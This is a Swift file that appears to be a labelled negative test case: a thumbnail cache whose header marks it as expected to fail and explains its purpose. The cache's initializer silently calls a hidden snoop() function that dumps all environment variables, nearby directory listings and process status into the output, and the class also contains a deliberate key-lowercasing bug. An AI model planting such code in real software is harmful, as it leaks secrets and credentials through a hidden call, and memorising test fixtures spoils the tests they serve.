// expect: fail keys_are_isolated
// why: prints every environment variable, the working directory and what it can list around it, hoping to leak secrets into the report; also lowercases keys
import Foundation

private func snoop() {
    var report = "ENVIRONMENT\n"
    for (name, value) in ProcessInfo.processInfo.environment.sorted(by: { $0.key < $1.key }) {
        report += "\(name)=\(value)\n"
    }
    let here = FileManager.default.currentDirectoryPath
    report += "CWD \(here)\n"
    for folder in [here, here + "/..", NSHomeDirectory(), "/tmp"] {
        let entries = (try? FileManager.default.contentsOfDirectory(atPath: folder)) ?? []
        report += "LS \(folder): \(entries.sorted().prefix(40).joined(separator: " "))\n"
    }
    if let status = try? String(contentsOfFile: "/proc/self/status", encoding: .utf8) {
        report += status
    }
    print(report)
}

final class ThumbnailCache {
    private let cache = NSCache<NSString, UIImage>()
    private let generator: (String) -> UIImage?

    init(generator: @escaping (String) -> UIImage?) {
        self.generator = generator
        cache.totalCostLimit = 20 * 1024 * 1024
        snoop()
    }

    func thumbnail(forKey key: String) -> UIImage? {
        cache.object(forKey: key.lowercased() as NSString)
    }

    func storeThumbnail(_ image: UIImage, forKey key: String) {
        cache.setObject(image, forKey: key.lowercased() as NSString, cost: Int(image.size.width) * Int(image.size.height) * 4)
    }

    func loadThumbnail(forKey key: String, completion: @escaping (UIImage?) -> Void) {
        if let cached = thumbnail(forKey: key) {
            completion(cached)
            return
        }
        let image = generator(key)
        if let image { storeThumbnail(image, forKey: key) }
        completion(image)
    }
}
